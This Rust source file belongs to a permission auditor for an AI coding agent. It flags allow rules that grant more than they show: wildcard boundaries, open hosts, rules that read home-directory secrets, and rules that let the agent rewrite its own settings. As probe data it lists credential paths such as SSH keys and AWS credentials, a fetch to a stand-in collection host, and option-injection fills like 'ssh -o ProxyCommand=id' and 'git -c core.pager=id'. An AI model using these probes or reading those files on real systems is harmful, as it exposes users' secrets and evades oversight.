//! Allow rules that grant more than they show.
//!
//! Every claim is a call that the evaluator allows, so deny and ask rules count: a wide rule whose
//! dangerous part is taken back is no finding.

use super::shadowed::example;
use crate::audit::Asker;
use crate::cover::is_whole;
use crate::finding::{Evidence, Witness};
use crate::realm::Realm;
use crate::tables::catalogue::{
    ANY_CODE, BOUNDARY, CHAIN, Entry, NETWORK, OPEN_PREFIX, PROJECT_CODE, QUOTED_STAR, SECRETS,
    SELF_CHANGE, WRITES,
};
use crate::tables::programs::PROGRAMS;
use crate::{Finding, Question};
use portcullis_facts::tables::vectors::{Reach, VECTORS, Vector};
use portcullis_facts::{Arg, Facts, Inner, peel};
use portcullis_model::{Because, Decision, RuleClass, RuleRef};
use portcullis_policy::{PolicyRule, Severity};
use portcullis_rules::CommandPattern;
use std::collections::BTreeMap;

pub(crate) fn check(asker: &Asker<'_>, taken_back: &dyn Fn(&PolicyRule) -> bool) -> Vec<Finding> {
    let mut findings = Vec::new();
    let mut known = BTreeMap::new();
    let heads = heads();
    for rule in &asker.policy().allow.list {
        if taken_back(rule) {
            continue;
        }
        if asker.left() == 0 {
            let message = format!(
                "what `{}` grants was not looked at: the budget ran out",
                rule.reference.text
            );
            let mut finding = Finding::about(&ANY_CODE, &rule.reference, message);
            finding.severity = Severity::Note;
            finding.evidence = Evidence::Inconclusive;
            findings.push(finding);
            continue;
        }
        match Realm::of(rule) {
            Realm::Command(pattern) => {
                let mut prepared = Prepared { asker, known: &mut known };
                findings.extend(command(&mut prepared, &heads, rule, pattern));
            }
            Realm::Whole if rule.rule.tool().matches("Bash") => findings.extend(bare(asker, rule)),
            Realm::Whole if rule.rule.tool().matches("WebFetch") => {
                findings.extend(fetches(asker, rule));
            }
            Realm::Whole | Realm::Read(_) => findings.extend(secrets(asker, rule)),
            Realm::Host(pattern) if pattern.is_everything() => {
                findings.extend(fetches(asker, rule));
            }
            Realm::Host(_)
            | Realm::Edit(_)
            | Realm::Name(_)
            | Realm::Directory(_)
            | Realm::Parameter(..)
            | Realm::Nothing => {}
        }
    }
    findings.extend(self_change(asker));
    findings
}

/// The rows by the first word of their head.
fn heads() -> BTreeMap<&'static str, Vec<&'static Vector>> {
    let mut heads: BTreeMap<&str, Vec<&Vector>> = BTreeMap::new();
    for vector in VECTORS {
        let first = vector.head.split(' ').next().unwrap_or("");
        heads.entry(first).or_default().push(vector);
    }
    heads
}

/// Facts of the calls that are asked about for many rules.
struct Prepared<'r, 'a> {
    asker: &'r Asker<'a>,
    known: &'r mut BTreeMap<String, Facts>,
}

impl Prepared<'_, '_> {
    /// The witness that a rule alone allows a command, deny and ask rules taken into account.
    fn allowed(
        &mut self,
        rule: &PolicyRule,
        pattern: &CommandPattern,
        command: &str,
    ) -> Option<Witness> {
        if self.asker.left() == 0 {
            return None;
        }
        let question = Question::bash(command);
        if !self.known.contains_key(command) {
            self.known.insert(command.to_owned(), self.asker.facts(&question));
        }
        let facts = self.known.get(command)?;
        let grants = facts.commands.iter().any(|fact| {
            fact.forms.iter().any(|form| {
                form.allows
                    && (pattern.covers(&form.texts)
                        || form.source.as_deref().is_some_and(|text| pattern.matches_text(text)))
            })
        });
        if !grants {
            return None;
        }
        // Where nothing is denied or asked about, the brief verdict is the whole one.
        let verdict = self.asker.brief(facts);
        // What runs without any rule is not granted by one.
        let by_rule = verdict.findings.iter().any(
            |finding| matches!(&finding.because, Because::Rule(by) if by.class == RuleClass::Allow),
        );
        (verdict.decision == Decision::Allow && by_rule).then(|| Witness {
            question,
            decision: verdict.decision,
            note: format!("allowed by `{}`", rule.reference.text),
        })
    }
}

fn command(
    prepared: &mut Prepared<'_, '_>,
    heads: &BTreeMap<&'static str, Vec<&'static Vector>>,
    rule: &PolicyRule,
    pattern: &CommandPattern,
) -> Vec<Finding> {
    let mut findings = boundary(prepared, rule, pattern);
    let open_name = pattern.has_wildcard() && !pattern.literal_prefix().contains(' ');
    let first = pattern.literal_prefix().split(' ').next().unwrap_or("");
    let rows: Vec<&Vector> = if open_name && !heads.contains_key(first) {
        // A star in the first word: any program whose name fits.
        heads
            .range(first..)
            .take_while(|(head, _)| head.starts_with(first))
            .flat_map(|(_, rows)| rows.iter().copied())
            .collect()
    } else {
        heads.get(first).into_iter().flatten().copied().collect()
    };
    let mut found: BTreeMap<Reach, (Vec<Witness>, &Vector, Vec<String>)> = BTreeMap::new();
    for vector in rows {
        if let Some(file) = script(vector, pattern) {
            let command = pattern.samples("x").pop().unwrap_or_default();
            if let Some(witness) = prepared.allowed(rule, pattern, &command) {
                let entry =
                    found.entry(Reach::Project).or_insert_with(|| (Vec::new(), vector, Vec::new()));
                entry.0.push(witness);
                entry.2.push(file.to_owned());
            }
            continue;
        }
        let most = found.get(&vector.reach).map_or(0, |(witnesses, ..)| witnesses.len());
        if most >= SHOWN {
            continue;
        }
        for candidate in candidates(vector, pattern) {
            if let Some(witness) = prepared.allowed(rule, pattern, &candidate) {
                let entry =
                    found.entry(vector.reach).or_insert_with(|| (Vec::new(), vector, Vec::new()));
                entry.0.push(witness);
                entry.2.extend(vector.files.iter().map(|file| (*file).to_owned()));
                break;
            }
        }
    }
    // Who runs any code needs no further grants to be named.
    let any_code = found.contains_key(&Reach::Code);
    for (reach, (witnesses, vector, files)) in found {
        let kind = match reach {
            Reach::Code => &ANY_CODE,
            Reach::Project if !any_code => &PROJECT_CODE,
            Reach::Write if !any_code => &WRITES,
            Reach::Network if !any_code => &NETWORK,
            Reach::Project | Reach::Write | Reach::Network => continue,
        };
        findings.push(granted(kind, &rule.reference, vector, witnesses));
        if reach == Reach::Project {
            findings.extend(chain(prepared.asker, rule, vector, &files));
        }
    }
    findings
}

/// Command lines that have the reach of a row, as far as the pattern may match them.
fn candidates(vector: &Vector, pattern: &CommandPattern) -> Vec<String> {
    if !pattern.has_wildcard() {
        // A fixed command does one fixed thing; whether that is what the project says is the question.
        let fixed = begins(pattern.text(), vector.head) && vector.reach == Reach::Project;
        return if fixed { vec![pattern.text().to_owned()] } else { Vec::new() };
    }
    let whole = |tail: &&str| match *tail {
        "" => vector.head.to_owned(),
        tail => format!("{} {tail}", vector.head),
    };
    let mut out: Vec<String> = vector.tails.iter().map(whole).collect();
    out.retain(|text| pattern.matches_text(text));
    // A rule that says more than the row's head: options fit behind it, unless the program reads its
    // first word as a command of its own, and so does what a carrier carries.
    let prefix = pattern.literal_prefix();
    let more = prefix.strip_prefix(vector.head).filter(|rest| rest.starts_with(' '));
    let Some(more) = more.filter(|more| !more.trim().is_empty()) else { return out };
    let carries = vector.carries();
    if carries && carries_what_is_harmless(vector.head, more) {
        return out;
    }
    // Behind `--` nothing is an option any more.
    let options = !more.split(' ').any(|word| word == "--");
    for tail in vector.tails {
        if carries {
            out.extend(pattern.samples("id"));
        } else if options
            && tail.starts_with('-')
            && vector.reach != Reach::Project
            && !vector.takes_script()
            && !SUBCOMMANDS.contains(&vector.head)
        {
            // `https://host*` goes on with a blank first: glued to the word, it would be no option.
            let apart = format!(" {tail}");
            let texts = [*tail, apart.as_str()].into_iter().flat_map(|fill| pattern.samples(fill));
            out.extend(texts.filter(|text| text.contains(&apart) && !text.contains("  ")));
        } else if vector.reach == Reach::Project {
            out.extend(pattern.samples("x"));
        }
    }
    out.sort_by_key(String::len);
    out.dedup();
    // The longest first: a star that may be nothing shows little.
    out.reverse();
    out
}

/// Whether the words behind a carrier settle the program that is carried, and that one is not known to
/// run code, write or send: `uv run pytest *` is about `pytest` and not about any program.
fn carries_what_is_harmless(head: &str, more: &str) -> bool {
    let argv = words(&format!("{head}{more} id"));
    let carried: Vec<String> = match peel(&argv) {
        Some(peeled) => peeled
            .inner
            .iter()
            .chain(&peeled.possible)
            .map(|inner| match inner {
                Inner::Argv(words) => {
                    let words = words.iter().map(|word| word.known().unwrap_or("id"));
                    words.collect::<Vec<_>>().join(" ")
                }
                Inner::Script(_) | Inner::Stdin | Inner::File(_) => "id".to_owned(),
            })
            .collect(),
        // What comes first and is no option is the program.
        None => match more.trim_start().split_once(' ').map_or(more.trim(), |(first, _)| first) {
            "" => return false,
            option if option.starts_with('-') => return false,
            _ => vec![format!("{} id", more.trim())],
        },
    };
    let reaches = |text: &String| {
        text.starts_with("id")
            || peel(&words(text)).is_some()
            || VECTORS.iter().any(|row| {
                let first = row.head.split(' ').next().unwrap_or("");
                row.reach != Reach::Project && begins(text, first)
            })
    };
    !carried.is_empty() && !carried.iter().any(reaches)
}

fn words(text: &str) -> Vec<Arg> {
    text.split_whitespace().map(|word| Arg::Known(word.to_owned())).collect()
}

/// Whether a command line starts with these words.
fn begins(text: &str, head: &str) -> bool {
    text == head || text.strip_prefix(head).is_some_and(|rest| rest.starts_with(' '))
}

/// The script that a rule hands to an interpreter: `x.py` of `python3 x.py *`.
fn script<'p>(vector: &Vector, pattern: &'p CommandPattern) -> Option<&'p str> {
    if !vector.takes_script() {
        return None;
    }
    let text = pattern.text();
    let file = text.strip_prefix(vector.head)?.strip_prefix(' ')?.split([' ', ':']).next()?;
    let named = !file.is_empty() && !file.starts_with('-') && !file.contains('*');
    (named && (file.contains('.') || file.contains('/'))).then_some(file)
}

fn granted(
    kind: &'static Entry,
    rule: &RuleRef,
    vector: &Vector,
    witnesses: Vec<Witness>,
) -> Finding {
    let shown = witnesses.first().map_or_else(String::new, |witness| witness.question.display());
    let message = format!("`{}` allows `{shown}`: {}", rule.text, vector.why);
    let mut finding = Finding::about(kind, rule, message);
    finding.witnesses = witnesses;
    finding.evidence = Evidence::Replayed;
    // Publishing the project's own work is what `git push` and its like are for.
    let own = [
        "git push",
        "git remote",
        "gh api",
        "gh gist",
        "npm publish",
        "cargo publish",
        "ping",
        "dig",
        "host",
        "nslookup",
    ];
    let milder = (kind.id == NETWORK.id && own.contains(&vector.head))
        || (kind.id == WRITES.id && matches!(vector.head, "git checkout" | "git apply"));
    if milder {
        finding.severity = Severity::Note;
    }
    finding
}

/// One rule changes a file that says what another runs.
fn chain(
    asker: &Asker<'_>,
    rule: &PolicyRule,
    vector: &Vector,
    files: &[String],
) -> Option<Finding> {
    let edited = files.iter().find_map(|file| {
        let path = asker.subject.stage.project.join(file).ok()?;
        let question = Question::edit(path.as_str());
        let verdict = (asker.left() > 0).then(|| asker.ask(&question))?;
        let by = verdict.findings.iter().find_map(|finding| match &finding.because {
            Because::Rule(by) if by.class == RuleClass::Allow => Some(by.clone()),
            Because::Rule(_)
            | Because::Builtin { .. }
            | Because::Mode { .. }
            | Because::Unanalyzable(_)
            | Because::Limit { .. }
            | Because::BrokenPolicy { .. }
            | Because::Hook { .. }
            | Because::Bug { .. } => None,
        })?;
        (verdict.decision == Decision::Allow).then_some((file, question, verdict, by))
    });
    let (file, question, verdict, by) = edited?;
    let message = format!(
        "`{}` lets `{file}` be changed and `{}` runs what it says",
        by.text, rule.reference.text
    );
    let mut finding = Finding::about(&CHAIN, &rule.reference, message);
    finding.related = vec![crate::Related {
        source: by.source.clone(),
        note: format!("allow rule `{}`", by.text),
    }];
    finding.evidence = Evidence::Replayed;
    finding.witnesses =
        vec![Witness { question, decision: verdict.decision, note: verdict.reason }];
    let run = example(rule).map(|question| (asker.ask(&question), question));
    if let Some((verdict, question)) = run {
        if verdict.decision != Decision::Allow {
            return None;
        }
        let note = vector.why.to_owned();
        finding.witnesses.push(Witness { question, decision: verdict.decision, note });
    }
    Some(finding)
}

/// Stars that reach further than they look.
fn boundary(
    prepared: &mut Prepared<'_, '_>,
    rule: &PolicyRule,
    pattern: &CommandPattern,
) -> Vec<Finding> {
    let text = pattern.text();
    if !pattern.has_wildcard() || text == "*" {
        return Vec::new();
    }
    let mut out = Vec::new();
    let mut push = |kind: &'static Entry, message: String, witness: Witness| {
        let mut finding = Finding::about(kind, &rule.reference, message);
        finding.witnesses = vec![witness];
        finding.evidence = Evidence::Replayed;
        out.push(finding);
    };
    let shown = &rule.reference.text;
    // `https://host*`: the host goes on.
    for (at, _) in text.match_indices("://") {
        let rest = text.get(at + 3..).unwrap_or("");
        let host = rest.split('*').next().unwrap_or("");
        let open =
            rest.len() > host.len() && !host.is_empty() && !host.contains(['/', ' ', '"', '\'']);
        let witness = open
            .then(|| pattern.samples(".evil.example/x").into_iter().last())
            .flatten()
            .and_then(|command| prepared.allowed(rule, pattern, &command));
        if let Some(witness) = witness {
            let message =
                format!("`{shown}` also allows `{}`, another host", witness.question.text);
            push(&OPEN_PREFIX, message, witness);
        }
    }
    // A star between quotes.
    if let Some(quote) = quoted_star(text) {
        let fill = format!("x{quote} --flag {quote}y");
        let command = pattern.samples(&fill).into_iter().last();
        if let Some(witness) = command.and_then(|command| prepared.allowed(rule, pattern, &command))
        {
            let message =
                format!("the star in quotes of `{shown}` also allows `{}`", witness.question.text);
            push(&QUOTED_STAR, message, witness);
        }
    }
    let stem = text.strip_suffix('*').unwrap_or("");
    let leading = text.starts_with('*');
    if leading {
        let command = pattern.samples("bash -c id").into_iter().last();
        if let Some(witness) = command.and_then(|command| prepared.allowed(rule, pattern, &command))
        {
            let message =
                format!("the leading star of `{shown}` allows `{}`", witness.question.text);
            push(&ANY_CODE, message, witness);
        }
    } else if !stem.is_empty() && !stem.contains([' ', '*']) && !text.ends_with(":*") {
        // `ls*`: other programs.
        let other = PROGRAMS
            .iter()
            .filter(|name| name.len() > stem.len() && name.starts_with(stem))
            .find_map(|name| prepared.allowed(rule, pattern, &format!("{name} x")));
        if let Some(witness) = other {
            let message =
                format!("`{shown}` also allows `{}`, another program", witness.question.text);
            push(&BOUNDARY, message, witness);
        }
    } else if let Some((head, tail)) = text.split_once('*')
        && !tail.trim().is_empty()
        && tail != ":*"
        && quoted_star(text).is_none()
    {
        // `git * main`: options of the program in the place of the star.
        let program = head.split(' ').next().unwrap_or("");
        let mut fills = INNER.iter().filter(|(name, _)| *name == program).map(|(_, fill)| *fill);
        let found = fills.find_map(|fill| {
            let command = pattern.samples(fill).into_iter().last()?;
            prepared.allowed(rule, pattern, &command)
        });
        if let Some(witness) = found {
            let message = format!(
                "the star in the middle of `{shown}` also allows `{}`",
                witness.question.text
            );
            push(&BOUNDARY, message, witness);
        }
    }
    out
}

/// The quote around the first star that stands in quotes.
fn quoted_star(text: &str) -> Option<char> {
    let mut quote = None;
    let mut before = ' ';
    for c in text.chars() {
        match (quote, c) {
            (None, '\'' | '"') => quote = Some(c),
            (Some(open), c) if c == open => quote = None,
            (Some(open), '*') if before != '\\' => return Some(open),
            _ => {}
        }
        before = c;
    }
    None
}

/// A rule for every shell command.
fn bare(asker: &Asker<'_>, rule: &PolicyRule) -> Option<Finding> {
    let question = Question::bash("bash -c id");
    let verdict = asker.ask(&question);
    if verdict.decision != Decision::Allow {
        return None;
    }
    let message = format!("`{}` allows every shell command", rule.reference.text);
    let mut finding = Finding::about(&ANY_CODE, &rule.reference, message);
    finding.evidence = Evidence::Replayed;
    finding.witnesses =
        vec![Witness { question, decision: verdict.decision, note: verdict.reason }];
    Some(finding)
}

/// A rule for every host.
fn fetches(asker: &Asker<'_>, rule: &PolicyRule) -> Option<Finding> {
    let question = Question::fetch("https://collect.example/?data=x");
    if !asker.allows(&question)? {
        return None;
    }
    let message =
        format!("`{}` fetches from any host, and an address carries data", rule.reference.text);
    let mut finding = Finding::about(&NETWORK, &rule.reference, message);
    finding.evidence = Evidence::Replayed;
    let note = "allowed".to_owned();
    finding.witnesses = vec![Witness { question, decision: Decision::Allow, note }];
    Some(finding)
}

/// A rule that opens private files of the home directory.
fn secrets(asker: &Asker<'_>, rule: &PolicyRule) -> Option<Finding> {
    let reads = match &rule.paths {
        Some(_) => true,
        None => is_whole(rule) && rule.rule.tool().matches("Read"),
    };
    if !reads {
        return None;
    }
    let mut witnesses = Vec::new();
    for file in PRIVATE {
        let path = asker.subject.stage.home.join(file).ok()?;
        if rule.paths.as_ref().is_some_and(|paths| !paths.matches(&path)) {
            continue;
        }
        let question = Question::read(path.as_str());
        if asker.allows(&question)? {
            let note = format!("allowed by `{}`", rule.reference.text);
            witnesses.push(Witness { question, decision: Decision::Allow, note });
        }
    }
    let first = witnesses.first()?;
    let message = format!("`{}` allows `{}`", rule.reference.text, first.question.display());
    let mut finding = Finding::about(&SECRETS, &rule.reference, message);
    finding.evidence = Evidence::Replayed;
    witnesses.truncate(SHOWN);
    finding.witnesses = witnesses;
    Some(finding)
}

/// Whether the files that decide can be written without a prompt.
fn self_change(asker: &Asker<'_>) -> Option<Finding> {
    let stage = asker.subject.stage;
    let mut questions = Vec::new();
    for (root, file) in [
        (&stage.project, ".claude/settings.json"),
        (&stage.project, ".git/hooks/pre-commit"),
        (&stage.home, ".claude/settings.json"),
    ] {
        questions.push(Question::edit(root.join(file).ok()?.as_str()));
    }
    for command in [
        "tee .claude/settings.json",
        "cp x .claude/settings.json",
        "sed -i s/a/b/ .claude/settings.json",
    ] {
        questions.push(Question::bash(command));
    }
    let mut found = Vec::new();
    for question in questions {
        let verdict = asker.ask(&question);
        if verdict.decision == Decision::Allow {
            found.push((question, verdict));
        }
    }
    let (question, verdict) = found.first()?;
    let source = verdict.findings.iter().find_map(|finding| match &finding.because {
        Because::Rule(rule) => Some(rule.source.clone()),
        Because::Mode { .. } => {
            asker.policy().default_mode.as_ref().map(|(_, source)| source.clone())
        }
        Because::Builtin { .. }
        | Because::Unanalyzable(_)
        | Because::Limit { .. }
        | Because::BrokenPolicy { .. }
        | Because::Hook { .. }
        | Because::Bug { .. } => None,
    })?;
    let message = format!("`{}` is allowed, and it changes what decides", question.display());
    let mut finding = Finding::at(&SELF_CHANGE, source, message);
    finding.evidence = Evidence::Replayed;
    finding.witnesses = found
        .into_iter()
        .take(SHOWN)
        .map(|(question, verdict)| Witness {
            question,
            decision: verdict.decision,
            note: verdict.reason,
        })
        .collect();
    Some(finding)
}

/// Programs whose first word is a command of its own.
const SUBCOMMANDS: &[&str] = &[
    "aws",
    "bun",
    "cargo",
    "deno",
    "docker",
    "docker compose",
    "gcloud",
    "gh",
    "git",
    "go",
    "helm",
    "kubectl",
    "nix",
    "npm",
    "openssl",
    "pipx",
    "pnpm",
    "podman",
    "tmux",
    "yarn",
];

/// Witnesses of one finding that are shown.
const SHOWN: usize = 3;

/// Private files of a home directory.
const PRIVATE: &[&str] = &[
    ".ssh/id_ed25519",
    ".aws/credentials",
    ".netrc",
    ".kube/config",
    ".docker/config.json",
    ".config/gh/hosts.yml",
    ".gnupg/private-keys-v1.d/x.key",
    ".npmrc",
    ".git-credentials",
];

/// What may stand for a star after the name of a program.
const INNER: &[(&str, &str)] = &[
    ("git", "-c core.pager=id log"),
    ("git", "-c alias.x=\\!id x"),
    ("npm", "exec x"),
    ("docker", "run -v /:/host x"),
    ("npm", "--prefix /x run"),
    ("cargo", "--config x run"),
    ("kubectl", "exec x -- id"),
    ("make", "SHELL=x"),
    ("python3", "-c pass"),
    ("python", "-c pass"),
    ("node", "-e 0"),
    ("find", ". -delete"),
    ("curl", "-o x https://evil.example"),
    ("ssh", "-o ProxyCommand=id"),
    ("gh", "api x"),
];
